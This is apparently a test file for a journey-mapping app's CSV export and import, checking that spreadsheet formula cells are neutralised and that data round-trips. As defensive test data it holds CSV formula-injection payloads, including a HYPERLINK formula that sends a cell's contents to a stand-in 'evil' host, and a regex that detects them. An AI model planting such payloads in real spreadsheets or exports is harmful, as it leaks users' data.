// The notes CSV (export-csv.ts) against the CSV import (import-csv.ts): every
// cell a spreadsheet would run as a formula is guarded, multi-line cells
// included, and export → import gives the same journey back (stage and lane
// order, stages and lanes without notes, texts with a leading apostrophe).
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { notesCsv } from '../../src/io/export-csv.ts';
import { importJourneyCsv } from '../../src/io/import-csv.ts';
import type { Journey } from '../../src/model/journey.ts';
import { journeyArbitrary, textArbitrary } from '../support/journeys.ts';
import { PROPERTY_RUNS } from './runs.ts';

/** What a spreadsheet reads as a formula: =, +, - or @ first (after blanks), or a tab or CR first. */
const RUNS_AS_FORMULA = /^\s*[=+\-@＝＋－＠]|^[\t\r]/;

const hostilePrefix = fc.constantFrom('', '=', '+', '-', '@', "'", "'=", "''+", '=HYPERLINK("http://x"&A1,"Click") ', '＝', ' =', '@SUM(A1) ');
const hostileText = fc
  .array(fc.tuple(hostilePrefix, textArbitrary(4)).map(([prefix, text]) => (prefix + text).trim()), { minLength: 1, maxLength: 3 })
  .map((lines) => lines.join('\n'));

/** A random journey whose names and texts start like formulas, apostrophes and all; names unique, as the CSV keys by name. */
const hostileJourney = journeyArbitrary({ maxStages: 5, maxNotesPerCell: 2 }).chain((journey) =>
  fc
    .record({
      stageNames: fc.uniqueArray(hostileText, { minLength: journey.stages.length, maxLength: journey.stages.length }),
      texts: fc.array(hostileText, { minLength: journey.notes.length, maxLength: journey.notes.length }),
      order: fc.shuffledSubarray(journey.lanes, { minLength: journey.lanes.length }),
      emptyAll: fc.boolean(),
    })
    .map(({ stageNames, texts, order, emptyAll }): Journey => ({
      ...journey,
      stages: journey.stages.map((stage, index) => ({ ...stage, name: stageNames[index] ?? stage.name })),
      lanes: order,
      notes: emptyAll ? [] : journey.notes.map((note, index) => ({ ...note, text: texts[index] ?? note.text })),
    })),
);

/** The journey as the CSV carries it: names in order, notes by stage and lane name. */
function carried(journey: Journey) {
  const stageName = new Map(journey.stages.map((stage) => [stage.id, stage.name]));
  const laneName = new Map(journey.lanes.map((lane) => [lane.id, lane.name]));
  return {
    stages: [...journey.stages].sort((a, b) => a.order - b.order).map((stage) => stage.name),
    lanes: journey.lanes.map((lane) => [lane.name, lane.kind]),
    notes: journey.notes.map(({ stageId, laneId, text, valence, channel, owner, evidence, momentOfTruth }) => ({ stage: stageName.get(stageId), lane: laneName.get(laneId), text, valence, channel, owner, evidence, momentOfTruth })),
  };
}

describe('notes CSV', () => {
  it('guards every cell a spreadsheet would run as a formula, multi-line cells too', async () => {
    await fc.assert(
      fc.asyncProperty(hostileJourney, async (journey) => {
        const rows = Papa.parse<string[]>(await notesCsv(journey), { header: false, skipEmptyLines: true }).data;
        for (const cell of rows.flat()) if (RUNS_AS_FORMULA.test(cell)) expect(/^-[12]$/.test(cell)).toBe(true);
      }),
      { numRuns: PROPERTY_RUNS.csvRoundTrip },
    );
  });

  it('export → import gives the same stages, lanes and notes, in order', async () => {
    await fc.assert(
      fc.asyncProperty(hostileJourney, async (journey) => {
        const back = await importJourneyCsv(await notesCsv(journey));
        if (!back.ok) throw new Error(back.errors.join('\n'));
        expect(carried(back.value)).toEqual(carried(journey));
      }),
      { numRuns: PROPERTY_RUNS.csvRoundTrip },
    );
  });

  it('guards a two-paragraph sticky starting with = in the stage and text cells', async () => {
    const csv = await notesCsv(await importedSample());
    expect(csv.split('\n').slice(1, 4).join('\n')).toBe(`"'=HYPERLINK(""http://evil""&A1,""Click"")\nsecond",Doing,"'@SUM(A1)\nmore",,,,,`);
  });
});

async function importedSample(): Promise<Journey> {
  const csv = `stage,lane,text\n"'=HYPERLINK(""http://evil""&A1,""Click"")\nsecond",Doing,"'@SUM(A1)\nmore"\n`;
  const imported = await importJourneyCsv(csv);
  if (!imported.ok) throw new Error(imported.errors.join('\n'));
  expect(imported.value.stages[0]?.name).toBe('=HYPERLINK("http://evil"&A1,"Click")\nsecond');
  return imported.value;
}
